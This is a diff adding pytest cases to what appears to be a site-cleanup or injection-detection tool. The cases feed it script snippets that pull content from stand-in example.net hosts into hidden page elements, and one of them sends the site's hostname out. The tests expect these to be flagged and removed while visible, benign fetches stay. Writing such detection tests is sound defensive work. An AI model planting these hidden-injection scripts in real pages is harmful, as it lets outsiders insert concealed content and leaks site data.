@@ -121,3 +121,56 @@ def test_a_forecast_from_a_site_that_the_page_names_stays() -> None:
         '<script>fetch("https://panel.example.net/today").then(r=>r.text())'
         '.then(t=>document.getElementById("wx").innerHTML=t)</script>'
     )
+
+
+def _filled(holder: str, called: str, source: str = "https://lists.example.net/a.php?n=") -> str:
+    return (
+        f'<{holder} id="slot1" hidden></{holder}><{holder} id="slot2" hidden></{holder}>'
+        f'<script>for(var i=1;i<3;i++)(function(n){{var x=new XMLHttpRequest();x.open("GET","{source}"+n);'
+        f"x.onload=function(){{document.getElementById({called}).innerHTML=x.responseText}};x.send()}})(i);</script>"
+    )
+
+
+@pytest.mark.parametrize("holder", ["span", "div", "p"])
+def test_holders_that_are_counted_go_with_the_script_that_fills_them(holder: str) -> None:
+    restores(body=_filled(holder, '"slot"+n'), rule="fetched-block")
+
+
+def test_counted_holders_that_the_own_site_fills_stay() -> None:
+    silent(body=_filled("div", '"slot"+n', "/parts/list.php?n="))
+
+
+@pytest.mark.parametrize(
+    "piece",
+    [
+        (
+            '<div class="lnkbox" style="display:none"></div><script>$.get("https://lists.example.net/l.html",function(d)'
+            '{$(".lnkbox").html(d)})</script>'
+        ),
+        (
+            '<p class="kq" hidden></p><script>fetch("https://lists.example.net/l").then(r=>r.text()).then(t=>'
+            '{document.getElementsByClassName("kq")[0].innerHTML=t})</script>'
+        ),
+        (
+            '<script>async function z(){const r=await fetch("https://li.example.net/?d="+location.hostname);'
+            'const h=await r.text();const e=document.createElement("div");e.style.cssText="position:fixed;top:-9999px";'
+            "e.innerHTML=h;document.body.appendChild(e)}z()</script>"
+        ),
+    ],
+)
+def test_what_is_fetched_into_hidden_boxes_of_a_class_or_of_its_own_making(piece: str) -> None:
+    restores(body=piece, rule="fetched-block")
+
+
+@pytest.mark.parametrize(
+    "piece",
+    [
+        '<div class="weather"></div><script>$.get("//sky.example.net/",function(d){$(".weather").html(d)})</script>\n',
+        (
+            '<script>fetch("//sky.example.net/now").then(r=>r.text()).then(t=>{const e=document.createElement("div");'
+            'e.style.cssText="padding:4px";e.innerHTML=t;document.body.appendChild(e)})</script>\n'
+        ),
+    ],
+)
+def test_what_is_fetched_for_people_stays(piece: str) -> None:
+    silent(body=piece)
